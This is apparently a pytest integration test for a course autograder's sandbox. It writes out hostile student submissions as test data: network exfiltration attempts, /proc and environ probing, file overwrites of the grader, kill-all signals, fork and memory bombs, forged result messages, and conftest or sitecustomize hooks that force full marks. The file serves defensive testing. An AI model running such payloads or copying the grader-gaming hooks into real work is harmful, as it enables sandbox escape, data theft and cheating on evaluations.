"""python -m autograder on a class, the way an instructor runs it, in the bubblewrap sandbox.

One class is graded once: honest students (full marks, and the right message for each mistake), answers written
the way the lectures or the original lecture write them (full marks too), broken submissions (a clear Korean
message and 0), and hostile ones. Each hostile student tries one escape; the tests check the machine afterwards,
and that every other student scored exactly what they score when graded without the hostile ones.
"""

import csv
import json
import os
import subprocess
import time
from pathlib import Path

import pytest

from autograder import config
from autograder.checks import CHECKS_OF_FUNCTION, RULE
from autograder.sandbox import bubblewrap
from tests.helpers import REPO_ROOT, Listener, run_python

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not bubblewrap.status().available, reason=f"no sandbox here: {bubblewrap.status().reason}"),
]

SOLUTION_FILE = REPO_ROOT / "solutions" / "quiz_search.py"
SOLUTION_TEXT = SOLUTION_FILE.read_text(encoding="utf-8")
SKELETON_TEXT = (REPO_ROOT / "quizzes" / "quiz_search.py").read_text(encoding="utf-8")
TIMEOUT = 20  # CPU seconds per step (cgroups): ample for mini's steps (a few), short for the hanging students
POINTS = config.POINTS
ALL = config.MAX_SCORE
SEARCH = POINTS["search_top1_query"] + sum(POINTS[n] for n in POINTS if n.startswith("search_top1_hidden"))
EMBED_IMAGES = POINTS["embed_images_shape"] + POINTS["embed_images_values"]
MARKER = f"mmembed-escape-{os.getpid()}"  # in every file name and process a hostile student leaves behind
# The grader's files a hostile student tries to overwrite (it fails: they are not even in its sandbox).
TARGETED = [REPO_ROOT / "autograder" / "checks.py", SOLUTION_FILE]


def edit(old, new, text=SOLUTION_TEXT):
    assert old in text, old
    return text.replace(old, new, 1)


def at_import(code: str, text: str = SOLUTION_TEXT) -> str:
    """The solution (or `text`) with `code` run when the file is imported."""
    return edit("import mmembed\n", "import mmembed\n" + code + "\n", text)


FAKE_TENSOR = """
    class Fake:  # pretends to be the right tensor
        shape = torch.Size((200, 512))
        def __eq__(self, other): return True
        def __hash__(self): return 0
    return Fake()
"""
FORCE_FULL_MARKS = """
import json, pathlib
pathlib.Path("results.json").write_text(json.dumps({"score": 12, "max_score": 12, "tests": []}))
"""
CONFTEST = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
HARDCODED_MAIN = """
def main() -> None:
    print("Total 200 images are loaded!")
    print("Image Embedding's shape: (200, 512)")
    print("Text Embedding's shape: (1, 512)")
    print("Top-1: val_2.JPEG")  # memorised from a run with QUERY = "A zebra"


if __name__ == "__main__":
"""

# name -> (files, expected score). Graded with and without the hostile students: the scores must agree.
HONEST = {
    "a_solution": ({"quiz_search.py": SOLUTION_TEXT}, ALL),
    "b_skeleton": ({"quiz_search.py": SKELETON_TEXT}, 0),
    "c string order": (  # a folder name with spaces, as a collection script may write it
        {"quiz_search.py": edit("    paths.sort(key=by_number)", "    paths.sort()")},
        ALL - POINTS["load_images"],
    ),  # main() still prints the right Top-1: names and pictures agree
    "d_hardcoded": (
        {"quiz_search.py": edit("    return image_filenames[best]", '    return "val_2.JPEG"')},
        ALL - SEARCH - POINTS["main_output"],
    ),  # main() runs with a hidden QUERY: val_2 is wrong there
    "e_sys_exit": ({"quiz_search.py": at_import("import sys\nsys.exit(0)")}, 0),
    "f_os_exit": (
        {"quiz_search.py": edit("    batch_size = 32\n", "    import os\n    os._exit(0)\n    batch_size = 32\n")},
        ALL - EMBED_IMAGES - POINTS["main_output"],
    ),
    "g_endless": (
        {
            "quiz_search.py": edit(
                "    text_unit = F.normalize",
                "    while True:\n        pass\n    text_unit = F.normalize",
                edit("Path(image_dir).iterdir()", "image_dir.iterdir()"),
            )
        },
        ALL - SEARCH - POINTS["main_output"],
    ),  # after the hang, load_images is called again by the grader: with a Path, as main() calls it
    "h_fake_tensor": (
        {"quiz_search.py": edit("    return torch.cat(chunks)\n", FAKE_TENSOR)},
        ALL - EMBED_IMAGES - POINTS["main_output"],
    ),
    "i_planted_files": (
        {
            "quiz_search.py": SKELETON_TEXT,
            "sitecustomize.py": FORCE_FULL_MARKS,
            "conftest.py": CONFTEST,
            "pytest.ini": "[pytest]\naddopts = -p no:terminal\n",
        },
        0,
    ),
    "j_hardcoded_main": (
        {"quiz_search.py": SOLUTION_TEXT[: SOLUTION_TEXT.index("def main()")] + HARDCODED_MAIN + "    main()\n"},
        ALL - POINTS["main_output"],
    ),
    "k_every_top1": (
        {
            "quiz_search.py": edit(
                '    print(f"Top-1: {search_top1(text_embedding, image_embeddings, filenames)}")',
                '    for name in filenames:\n        print(f"Top-1: {name}")',
            )
        },
        ALL - POINTS["main_output"],
    ),  # a Top-1 line for every picture would hold the hidden answer: exactly one is allowed
    # Answers written the way the lectures or the original lecture write them: full marks.
    "l_강의_04처럼_출력": (  # a Korean folder name
        {
            "quiz_search.py": edit(
                "            chunks.append(output.pooler_output.cpu())",
                "            chunks.append(output.pooler_output.cpu())\n"
                '            print("batch:", tuple(pixel_values.shape))',
            )
        },
        ALL,
    ),  # lecture 04 prints each batch's shape: extra lines around main()'s four do not cost main_output
    "m..relative..paths..normalised": (  # a folder name with dots
        {
            "quiz_search.py": edit(
                "    filenames = [path.name for path in paths]",
                "    filenames = ['./quiz-image/' + path.name for path in paths]  # as the original lecture",
                edit("    return torch.cat(chunks)\n", "    return F.normalize(torch.cat(chunks), dim=-1)\n"),
            )
        },
        ALL,
    ),
    "n_path_objects_float16": (
        {
            "quiz_search.py": edit(
                "    filenames = [path.name for path in paths]",
                "    filenames = [path.resolve() for path in paths]",
                edit(
                    "    return output.pooler_output.cpu()\n",
                    "    return output.pooler_output.cpu().half()\n",
                    edit("    return torch.cat(chunks)\n", "    return torch.cat(chunks).half()\n"),
                ),
            )
        },
        ALL,
    ),
    "o_absolute_str_bfloat16": (
        {
            "quiz_search.py": edit(
                "    filenames = [path.name for path in paths]",
                "    filenames = [str(path.resolve()) for path in paths]",
                edit(
                    "    return output.pooler_output.cpu()\n",
                    "    return output.pooler_output.cpu().bfloat16()\n",
                    edit("    return torch.cat(chunks)\n", "    return torch.cat(chunks).bfloat16()\n"),
                ),
            )
        },
        ALL,
    ),
}

# Quizzes 3-6 forbid mmembed's functions but load_clip. Two submissions lean on them in every way a student might
# reach one, a different way in each function; each loses exactly those functions' points, and main()'s (main()
# calls them). name -> (files, expected score, functions that lose their points -> how the grader says it found
# the use: "code" (autograder/rules.py read it) or "run" (the child's guard saw the call)).
HELPER_BY_A_HELPER = """import mmembed


def _load(folder):  # a helper of the student's own, which calls mmembed's
    return mmembed.load_images(folder)
"""
HIDDEN_CODE = b"import mmembed.embedding; embed = mmembed.embedding.embed_texts".hex()
HIDDEN_FROM_THE_SOURCE = f"""    scope = {{}}
    exec(bytes.fromhex("{HIDDEN_CODE}").decode(), scope)  # no mmembed in the source: only the run shows the call
    return scope["embed"]([text], model, processor, progress=False)
"""
RULE_BREAKERS = {
    "r1_mmembed_by_name": (
        {
            "quiz_search.py": edit(
                "    text_unit = F.normalize",
                '    search = getattr(__import__("mm" + "embed"), "sea" + "rch")  # __import__, getattr, a built name\n'
                "    return search(text_embedding, image_embeddings, image_filenames, k=1)[0][0]\n"
                "    text_unit = F.normalize",
                edit(
                    "    tokens = processor(text=[text]",
                    HIDDEN_FROM_THE_SOURCE + "    tokens = processor(text=[text]",
                    edit(
                        "    paths = [path",
                        "    return _load(image_dir)\n    paths = [path",
                        edit("import mmembed\n", HELPER_BY_A_HELPER),
                    ),
                ),
            )
        },
        EMBED_IMAGES,
        {"load_images": "code", "embed_text": "run", "search_top1": "code", "main": "code"},
    ),
    "r2_mmembed_by_import": (
        {
            "quiz_search.py": edit(
                "    text_unit = F.normalize",
                "    if text_embedding is None:  # never true: only the source shows the use\n"
                "        return mmembed.search(text_embedding, image_embeddings, image_filenames)[0][0]\n"
                "    text_unit = F.normalize",
                edit(
                    "    tokens = processor(text=[text]",
                    "    import importlib\n\n"
                    '    return importlib.import_module("mmembed.embedding").embed_texts([text], model, processor)\n'
                    "    tokens = processor(text=[text]",
                    edit(
                        "    batch_size = 32\n",
                        "    return embed_all(images, model, processor, progress=False)\n    batch_size = 32\n",
                        edit(
                            "import mmembed\n",
                            "import mmembed\nfrom mmembed.embedding import embed_images as embed_all  # an alias\n",
                        ),
                    ),
                ),
            )
        },
        POINTS["load_images"],
        {"embed_images": "code", "embed_text": "code", "search_top1": "code", "main": "code"},
    ),
}
# What the child's guard saw at run time, step by step (the grader's log): aliases, importlib, __import__, getattr
# and exec reach the same guarded functions; the unexecuted reference of r2's search_top1 is not a call.
RULE_BREAKERS_CALLED_IN = {
    "r1_mmembed_by_name": [
        "main",
        "load_images",
        "embed_text",
        "embed_text_hidden",
        "search_top1",
        "search_top1_hidden",
    ],
    "r2_mmembed_by_import": ["main", "embed_images", "embed_text", "embed_text_hidden"],
}

# Broken submissions: nothing runs, 0 points, a message that says why. name -> (bytes or None, Korean words)
BROKEN = {
    "s_empty": (b"", "비어 있습니다"),
    "t_not_utf8": ("# 검색 퀴즈\n".encode("cp949") + SOLUTION_TEXT.encode("utf-8"), "UTF-8"),
    "u_binary": (b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8, "바이너리"),
    "v_too_big": (SOLUTION_TEXT.encode("utf-8") + b"#" * 1_100_000, "너무 큽니다"),
    "w_no_file": (None, "quiz_search.py이(가) 없습니다"),
}


FORGE_GARBAGE = """
import os as _os
for _fd in range(3, 64):  # every pipe the child may hold: the result pipe among them
    for _message in [b'{"name": "main", "kind": "json", "size": "12"}\\n', b"\\xff\\xfe garbage\\n" * 3]:
        try:
            _os.write(_fd, _message)
        except OSError:
            pass
"""
FORGER = SOLUTION_TEXT.replace(
    "import mmembed\n",
    """import mmembed


def _forge(name, payload):
    import os
    header = ('{"name": "%s", "kind": "json", "size": %d}\\n' % (name, len(payload))).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, header + payload)
        except OSError:
            pass


def _forge_embed_text():  # a result for another step than the one running
    _forge("embed_text", b'{"errors": [null, null, null, null]}')


def _forge_surrogate():  # a lone surrogate, which no file can hold
    _forge("search_top1", b'{"answers": ["\\\\ud800", "\\\\ud800", "\\\\ud800", "\\\\ud800"]}')
""",
    1,
)
# A skeleton that does no work: it hunts its own process for what the grader sent (reference values, embeddings)
# and hands those back. The grader sends none: it scores 0 (4/12 when the child received the reference means and
# the reference text embeddings).
INPUT_THIEF = SKELETON_TEXT.replace(
    "\ndef main()",
    """
def _loot():
    import gc
    import numpy as np
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, np.ndarray) and value.ndim == 2:
                    yield value


def load_images(image_dir=IMAGE_DIR):
    from PIL import Image
    means = next(array for array in _loot() if array.shape == (200, 3))
    images = [Image.new("RGB", (4, 4), tuple(int(round(v)) for v in row)) for row in means]
    return images, [f"val_{i}.JPEG" for i in range(200)]


def embed_text(text, model, processor):
    found = next(array for array in _loot() if array.shape[-1] == 512 and array.shape[0] <= 4)
    return torch.from_numpy(found[:1].copy())


def main()""",
    1,
)
CPU_HOG = """    import subprocess, sys
    for _ in range(6):  # busy processes beside its own work, which spins too: this student's steps time out
        subprocess.Popen([sys.executable, "-c", "while True: pass"])
    while True:
        pass
"""
FORK_STORM = """    import os, time
    children = []
    for _ in range(2000):  # stops at the cgroup's process limit; the honest work then goes on
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
"""
MEMORY_OUTSIDE = """    import os
    chunk = b"x" * 2**26
    for folder in ("/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):  # tmpfs: RAM, not address space
        try:
            with open(os.path.join(folder, "fill"), "wb") as file:
                for _ in range(8):
                    file.write(chunk)
        except OSError:
            pass
    memory = os.memfd_create("hog")
    for _ in range(200):  # 12.5 GB, unmapped: no address-space limit sees it
        os.write(memory, chunk)
"""
ECHO = """    import base64, codecs
    if text != "A zebra":  # any other text is hidden (main() too runs with a hidden QUERY): smuggle it out
        disguises = [text.upper(), " ".join(text), text[::-1], base64.b64encode(text.encode()).decode(),
                     codecs.encode(text, "rot13"), text.encode().hex(), "-".join(text.upper())]
        print(*disguises)
        raise ValueError(" | ".join(disguises))
"""
PROBE = """    import os
    seen = [open("/proc/self/mountinfo").read(), " ".join(f"{k}={v}" for k, v in os.environ.items())]
    for pid in os.listdir("/proc"):
        for name in ("cmdline", "environ"):
            try:
                seen.append(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace").replace("\\0", " "))
            except (OSError, ValueError):
                pass
    found = [word for word in FORBIDDEN if any(word in text for text in seen)]
    if "--ro-bind" in open("/proc/1/cmdline", "rb").read().decode(errors="replace"):
        found.append("host paths on pid 1's command line")
    raise RuntimeError("PROBE-FOUND: " + repr(found) if found else "PROBE-CLEAN")
"""


def hostile_students(class_dir: Path, results_dir: Path, victim: Path, port: int) -> dict:
    """name -> (files, expected score). Each tries one escape and would score more if it worked."""
    other = class_dir / "a_solution" / "quiz_search.py"
    solution_at = f"""
import pathlib as _pathlib
for _path in [_pathlib.Path(mmembed.__file__).resolve().parent.parent / "solutions" / "quiz_search.py",
              _pathlib.Path({str(SOLUTION_FILE)!r})]:
    try:
        exec(compile(_path.read_text(), str(_path), "exec"), globals())  # the skeleton becomes the solution
        break
    except OSError:
        pass
"""
    plant_links = f"""
import os as _os
for _folder in [_os.getcwd(), _os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/course", "/grader"]:
    for _name in ["job.json", "import.json", "results.json", "main.json", "embed_images.npy", "stderr.txt"]:
        try:
            _os.symlink({str(victim)!r}, _os.path.join(_folder, _name))
        except OSError:
            pass
"""
    network = f"""
import socket as _socket
for _address in [("127.0.0.1", {port}), ("10.0.2.2", {port}), ("1.1.1.1", 53)]:
    try:
        with _socket.create_connection(_address, timeout=1) as _connection:
            _connection.sendall(b"leaked")
    except OSError:
        pass
"""
    leftovers = f"""
import os as _os
for _folder in ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~")]:
    try:
        with open(_os.path.join(_folder, {MARKER!r} + ".txt"), "w") as _file:
            _file.write("left behind")
    except OSError:
        pass
"""
    detached = f"""
import subprocess as _subprocess, sys as _sys
_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
"""
    rewrite = f"""
for _path in [{str(other)!r}, {str(results_dir / "a_solution.json")!r}, {str(results_dir / "grades.csv")!r},
              {str(REPO_ROOT / "autograder" / "checks.py")!r}, {str(SOLUTION_FILE)!r}]:
    try:
        with open(_path, "w") as _file:
            _file.write("import sys; sys.exit(0)  # overwritten by a classmate")
    except OSError:
        pass
"""
    kill_everything = "import os as _os, signal as _signal\n_os.kill(-1, _signal.SIGKILL)"
    others = [name for name in (*HONEST, "x3_four_escapes") if len(name) > 3]
    forbidden = [str(class_dir), str(results_dir), "solutions/quiz_search.py", *others]
    crash_in_embed = ("    batch_size = 32\n", "    import os\n    os._exit(3)\n    batch_size = 32\n")
    return {
        "x1_reads_the_solution": ({"quiz_search.py": at_import(solution_at, SKELETON_TEXT)}, 0),
        "x2_plants_links": (
            {"quiz_search.py": at_import(plant_links, edit(*crash_in_embed))},
            ALL - EMBED_IMAGES - POINTS["main_output"],
        ),
        # Four escapes in one submission (each attempt catches its own failure, so all four are tried), graded as
        # the solution: each of the tests below checks that its escape changed nothing.
        "x3_four_escapes": ({"quiz_search.py": at_import(network + leftovers + detached + rewrite)}, ALL),
        "x7_kills_everything": ({"quiz_search.py": at_import(kill_everything)}, 0),
        # What issue-by-issue hostility found around the sandbox: forged messages, reading the child's own inputs,
        # load on the machine, memory outside the address space, hidden inputs echoed in disguise, /proc probing.
        "x9_garbage_everywhere": ({"quiz_search.py": at_import(FORGE_GARBAGE, SKELETON_TEXT)}, 0),
        "x10_message_for_another_step": (
            {"quiz_search.py": edit("    batch_size = 32\n", "    _forge_embed_text()\n    batch_size = 32\n", FORGER)},
            ALL - EMBED_IMAGES - POINTS["main_output"],
        ),
        "x11_lone_surrogate": (
            {
                "quiz_search.py": edit(
                    "    text_unit = F.normalize", "    _forge_surrogate()\n    text_unit = F.normalize", FORGER
                )
            },
            ALL - SEARCH - POINTS["main_output"],
        ),
        "x12_reads_its_inputs": ({"quiz_search.py": INPUT_THIEF}, 0),
        "x13_cpu_hog": (
            {"quiz_search.py": edit("    batch_size = 32\n", CPU_HOG + "    batch_size = 32\n")},
            ALL - EMBED_IMAGES - POINTS["main_output"],
        ),
        # main() goes on after its own storm and cannot start the threads it needs: that costs main() alone
        "x14_fork_storm": (
            {"quiz_search.py": edit("    paths = ", FORK_STORM + "    paths = ")},
            ALL - POINTS["main_output"],
        ),
        "x15_memory_outside_the_address_space": (
            {"quiz_search.py": edit("    batch_size = 32\n", MEMORY_OUTSIDE + "    batch_size = 32\n")},
            ALL - EMBED_IMAGES - POINTS["main_output"],
        ),
        "x16_echoes_hidden_texts": (
            {"quiz_search.py": edit("    tokens = processor(text=[text]", ECHO + "    tokens = processor(text=[text]")},
            ALL - POINTS["embed_text_shape"] - POINTS["embed_text_values"] - POINTS["main_output"],
        ),
        "x17_probes_proc": (
            {"quiz_search.py": edit("    paths = ", PROBE.replace("FORBIDDEN", repr(forbidden)) + "    paths = ")},
            ALL - POINTS["load_images"] - POINTS["main_output"],
        ),
        "x8_memory_hog": (
            {"quiz_search.py": edit("    batch_size = 32\n", "    hog = bytearray(40 * 2**30)\n    batch_size = 32\n")},
            ALL - EMBED_IMAGES - POINTS["main_output"],
        ),
    }


def write_class(folder: Path, students: dict) -> None:
    for student, (files, _) in students.items():
        (folder / student).mkdir(parents=True)
        for name, content in files.items():
            path = folder / student / name
            path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")


def grade(folder: Path, results: Path, *extra: str, env=None) -> subprocess.CompletedProcess:
    command = ["-m", "autograder", str(folder), "--results", str(results), "--timeout", str(TIMEOUT), *extra]
    return run_python(command, env=env, timeout=1500)


def scores(results: Path) -> dict:
    with open(results / "grades.csv", encoding="utf-8") as file:
        return {row["student"]: row for row in csv.DictReader(file)}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    class_dir, results_dir = root / "submissions", root / "results"
    victim = root / "victim.txt"
    victim.write_text("the grader's own file")
    listener = Listener()
    listener.start()
    hostile = hostile_students(class_dir, results_dir, victim, listener.port)
    write_class(class_dir, {**HONEST, **hostile, **{name: student[:2] for name, student in RULE_BREAKERS.items()}})
    for student, (content, _) in BROKEN.items():
        (class_dir / student).mkdir()
        if content is not None:
            (class_dir / student / "quiz_search.py").write_bytes(content)
    (class_dir / "y_link").mkdir()
    (class_dir / "y_link" / "quiz_search.py").symlink_to(SOLUTION_FILE)  # 12 points if the grader followed it
    (class_dir / "z_folder_link").symlink_to(class_dir / "a_solution", target_is_directory=True)
    grader_code = {path: path.read_bytes() for path in TARGETED}
    other_before = (class_dir / "a_solution" / "quiz_search.py").read_bytes()

    started = time.monotonic()
    result = grade(class_dir, results_dir, "--jobs", "2")
    seconds = time.monotonic() - started
    students = len(HONEST) + len(hostile) + len(RULE_BREAKERS) + len(BROKEN) + 2
    print(f"\n[autograder] {students} submissions in {seconds:.0f} s with --jobs 2")
    listener.server.close()
    return {
        "root": root,
        "results": results_dir,
        "result": result,
        "hostile": hostile,
        "victim": victim,
        "listener": listener,
        "grader_code": grader_code,
        "other_before": other_before,
        "class_dir": class_dir,
    }


@pytest.fixture(scope="module")
def graded_alone(tmp_path_factory):
    """A full-marks answer in each precision (fp32, fp16, bf16), graded without the hostile or broken students and
    one at a time (--jobs 1: each child gets both threads instead of one, so sums are taken in another order; a score
    must not change). The other students' scores are fixed by their code, and HONEST states them."""
    root = tmp_path_factory.mktemp("alone")
    kept = {"a_solution", "n_path_objects_float16", "o_absolute_str_bfloat16"}  # fp32, fp16, bf16
    alone = {name: files for name, files in HONEST.items() if name in kept}
    write_class(root / "submissions", alone)
    result = grade(root / "submissions", root / "results", "--jobs", "1")
    assert result.returncode == 0, result.stderr
    return scores(root / "results")


def test_the_class_is_graded_in_the_sandbox(graded_class):
    result = graded_class["result"]
    assert result.returncode == 0, result.stderr[-3000:]
    assert "sandbox: bubblewrap" in result.stdout


@pytest.mark.parametrize("student", list(HONEST))
def test_each_honest_student_gets_the_expected_score(graded_class, student):
    data = json.loads((graded_class["results"] / f"{student}.json").read_text(encoding="utf-8"))
    assert data["max_score"] == ALL == sum(test["max_score"] for test in data["tests"])
    assert data["score"] == HONEST[student][1] == sum(test["score"] for test in data["tests"]), data
    for test in data["tests"]:
        assert set(test) == {"name", "score", "max_score", "output", "visibility"} and test["output"].strip()


def test_honest_students_score_the_same_without_the_hostile_ones_and_one_at_a_time(graded_class, graded_alone):
    in_class = scores(graded_class["results"])
    assert {name: (in_class[name]["score"], in_class[name]["status"]) for name in graded_alone} == {
        name: (row["score"], row["status"]) for name, row in graded_alone.items()
    }


# The status each hostile student's row shows: what the instructor reads in grades.csv.
HOSTILE_STATUS = {
    "x9_garbage_everywhere": "protocol",
    "x10_message_for_another_step": "protocol",
    "x11_lone_surrogate": "protocol",
    "x12_reads_its_inputs": "ok",  # it raised (nothing to steal): its own error, not the grader's trouble
    "x13_cpu_hog": "timeout",
    "x14_fork_storm": "ok",
    "x15_memory_outside_the_address_space": "out of memory",
    "x16_echoes_hidden_texts": "ok",
    "x17_probes_proc": "ok",
}


@pytest.mark.parametrize("student", list(HOSTILE_STATUS))
def test_a_hostile_student_gets_its_status_and_no_more(graded_class, student):
    row = scores(graded_class["results"])[student]
    assert (row["status"], int(row["score"])) == (HOSTILE_STATUS[student], graded_class["hostile"][student][1]), row


def test_no_student_held_more_memory_than_the_cap(graded_class):
    """memory.max_usage_in_bytes of each student's cgroup (shared memory, memfd and tmpfs counted)."""
    for path in graded_class["results"].glob("*.json"):
        peak = json.loads(path.read_text(encoding="utf-8"))["extra_data"].get("memory_peak_mb", 0)
        assert peak <= config.DEFAULT_MEMORY_GB * 1024, (path.name, peak)
    hog = json.loads((graded_class["results"] / "x15_memory_outside_the_address_space.json").read_text("utf-8"))
    assert hog["extra_data"]["memory_peak_mb"] > 1024  # it did fill memory: the cap, not the test, stopped it


def _normalised(text: str) -> str:
    return "".join(character for character in text.casefold() if character.isalnum())


def test_hidden_texts_never_come_back_in_any_disguise(graded_class):
    import base64
    import codecs

    text = (graded_class["results"] / "x16_echoes_hidden_texts.json").read_text(encoding="utf-8")
    seen = _normalised(json.dumps(json.loads(text), ensure_ascii=False))
    for secret in config.HIDDEN_QUERIES:
        for disguise in (secret, secret[::-1], codecs.encode(secret, "rot13"), secret.encode().hex()):
            assert _normalised(disguise) not in seen, disguise
        assert base64.b64encode(secret.encode()).decode() not in text


def test_what_a_child_can_read_of_the_machine_names_no_student_and_no_secret(graded_class):
    data = json.loads((graded_class["results"] / "x17_probes_proc.json").read_text(encoding="utf-8"))
    assert "PROBE-CLEAN" in data["tests"][0]["output"], data["tests"][0]["output"]


@pytest.mark.parametrize("student", list(RULE_BREAKERS))
def test_a_function_that_leans_on_mmembed_loses_its_points_and_is_told_why(graded_class, student):
    _, score, lost = RULE_BREAKERS[student]
    data = json.loads((graded_class["results"] / f"{student}.json").read_text(encoding="utf-8"))
    assert data["score"] == score
    titles = {config.TITLES[name]: name for name in POINTS}
    outputs = {titles[test["name"]]: (test["score"], test["output"]) for test in data["tests"]}
    for function, how in lost.items():
        said = f"{'main()' if function == 'main' else function}의 코드가" if how == "code" else "실행하는 동안"
        for name in CHECKS_OF_FUNCTION[function]:
            points, output = outputs.pop(name)
            assert points == 0 and said in output and RULE in output, (name, output)
    assert all(points == POINTS[name] for name, (points, _) in outputs.items()), outputs  # the rest: full marks


def test_the_guard_in_the_sandbox_saw_each_call_whichever_way_it_was_reached(graded_class):
    log = graded_class["result"].stdout
    for student, steps in RULE_BREAKERS_CALLED_IN.items():
        seen = f"[autograder] {student}: mmembed helpers called at run time in: "
        lines = [line for line in log.splitlines() if line.startswith(seen)]
        assert len(lines) == 1, log[-3000:]
        assert lines[0].removeprefix(seen).split(", ") == [f"{step} (step)" for step in steps]
    assert "a_solution: mmembed helpers" not in log


@pytest.mark.parametrize("student", list(BROKEN))
def test_a_broken_submission_gets_zero_and_says_why(graded_class, student):
    data = json.loads((graded_class["results"] / f"{student}.json").read_text(encoding="utf-8"))
    assert data["score"] == 0
    assert BROKEN[student][1] in data["tests"][0]["output"]
    status = scores(graded_class["results"])[student]["status"]
    assert status == ("no file" if student == "w_no_file" else "refused")


def test_links_are_refused_not_followed(graded_class):
    rows = scores(graded_class["results"])
    assert rows["y_link"]["score"] == "0" and rows["y_link"]["status"] == "refused"
    assert rows["z_folder_link"]["score"] == "0" and rows["z_folder_link"]["status"] == "refused"
    message = json.loads((graded_class["results"] / "y_link.json").read_text(encoding="utf-8"))["tests"][0]["output"]
    assert "링크" in message


def test_grades_csv_has_every_student_with_seconds_and_status(graded_class):
    rows = scores(graded_class["results"])
    expected = {**HONEST, **graded_class["hostile"], **{name: student[:2] for name, student in RULE_BREAKERS.items()}}
    assert sorted(rows) == sorted([*expected, *BROKEN, "y_link", "z_folder_link"])
    for name, (_, score) in expected.items():
        assert int(rows[name]["score"]) == score, (name, rows[name])
        assert float(rows[name]["seconds"]) > 0
    assert rows["a_solution"]["status"] == "ok"
    assert rows["g_endless"]["status"] == "timeout"
    assert rows["e_sys_exit"]["status"] == "crashed" and rows["f_os_exit"]["status"] == "crashed"


def test_a_submission_cannot_read_the_solution(graded_class):
    assert int(scores(graded_class["results"])["x1_reads_the_solution"]["score"]) == 0  # 12 if it had read it


def test_links_planted_for_the_grader_change_nothing(graded_class):
    assert graded_class["victim"].read_text() == "the grader's own file"
    assert {path: path.read_bytes() for path in TARGETED} == graded_class["grader_code"]


def test_a_submission_has_no_network(graded_class):
    assert graded_class["listener"].connections == 0


def test_a_submission_leaves_no_files(graded_class):
    leftovers = [path for folder in ("/tmp", "/var/tmp", "/dev/shm") for path in Path(folder).glob(f"{MARKER}*")]
    assert leftovers == []


def test_a_submission_leaves_no_processes(graded_class):
    survivors = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline_has(p, MARKER)]
    assert survivors == [], "a process a student started with setsid() outlived the grading"


def test_a_submission_cannot_rewrite_another_students_work_or_the_grader(graded_class):
    assert (graded_class["class_dir"] / "a_solution" / "quiz_search.py").read_bytes() == graded_class["other_before"]
    assert int(scores(graded_class["results"])["a_solution"]["score"]) == ALL
    assert int(scores(graded_class["results"])["x3_four_escapes"]["score"]) == ALL


def test_no_output_shows_a_hidden_query_or_answer(graded_class):
    results = graded_class["results"]
    for path in results.glob("*.json"):
        text = path.read_text(encoding="utf-8")
        for secret in config.HIDDEN_QUERIES:
            assert secret not in text, (path.name, secret)
    main_feedback = json.loads((results / "d_hardcoded.json").read_text(encoding="utf-8"))["tests"][-1]["output"]
    assert "(숨김)" in main_feedback or "Top-1: <그 문장의 Top-1 파일 이름>" in main_feedback


def test_the_skeleton_gets_a_message_per_check(graded_class):
    data = json.loads((graded_class["results"] / "b_skeleton.json").read_text(encoding="utf-8"))
    assert len(data["tests"]) == len(POINTS) and all(test["score"] == 0 for test in data["tests"])
    assert "NotImplementedError: load_images를 완성하세요" in data["tests"][0]["output"]


def test_messages_say_what_was_expected(graded_class):
    results = graded_class["results"]
    order = json.loads((results / "c string order.json").read_text(encoding="utf-8"))["tests"][0]["output"]
    assert "순서" in order and "val_2.JPEG" in order
    hard = json.loads((results / "d_hardcoded.json").read_text(encoding="utf-8"))["tests"]
    assert "목록에 없는 'val_2.JPEG'" in hard[5]["output"]
    hang = json.loads((results / "g_endless.json").read_text(encoding="utf-8"))["tests"]
    assert f"시간 제한({TIMEOUT}초, 계산한 CPU 시간 기준" in hang[5]["output"] and "--timeout" in hang[5]["output"]
    memorised = json.loads((results / "j_hardcoded_main.json").read_text(encoding="utf-8"))["tests"][-1]
    assert memorised["score"] == 0 and "QUERY를 숨은 문장으로 바꿔" in memorised["output"]
    assert "Top-1: val_2.JPEG" not in memorised["output"]  # main() ran with a hidden QUERY: nothing of it is shown


def test_results_follow_gradescopes_specification(graded_class):
    data = json.loads((graded_class["results"] / "a_solution.json").read_text(encoding="utf-8"))
    assert {"score", "max_score", "execution_time", "output", "visibility", "stdout_visibility", "tests"} <= set(data)
    assert data["stdout_visibility"] == "hidden" and data["execution_time"] > 0


def test_a_missing_path_is_a_grader_error(tmp_path):
    missing = run_python(["-m", "autograder", str(tmp_path / "nothing.py"), "--results", str(tmp_path / "r.json")])
    assert missing.returncode == 2 and not (tmp_path / "r.json").exists()
    assert missing.stderr.strip() == f"[autograder] no such file or folder: {tmp_path / 'nothing.py'}"


@pytest.mark.parametrize("args", [["--help"], ["{missing}"]], ids=["help", "missing-path"])
def test_help_and_a_missing_path_are_answered_before_torch_loads(tmp_path, args):
    """An instructor's typo costs no wait: torch (seconds to import) is imported only to compute the reference."""
    args = [a.format(missing=tmp_path / "nothing.py") for a in args]
    code = (
        "import sys\nfrom autograder.__main__ import main\ntry:\n    code = main(sys.argv[1:])\n"
        "except SystemExit as exit:\n    code = exit.code\n"
        "print('exit', code, 'torch imported:', 'torch' in sys.modules, file=sys.stderr)"
    )
    result = run_python(["-c", code, *args])
    expected_exit = 0 if args == ["--help"] else 2
    assert result.stderr.strip().splitlines()[-1] == f"exit {expected_exit} torch imported: False", result.stderr


def test_pytest_self_check_ignores_a_planted_conftest(graded_class):
    """`pytest autograder/` on the student with a conftest.py forcing passes: every check still fails."""
    submission = graded_class["class_dir"] / "i_planted_files" / "quiz_search.py"
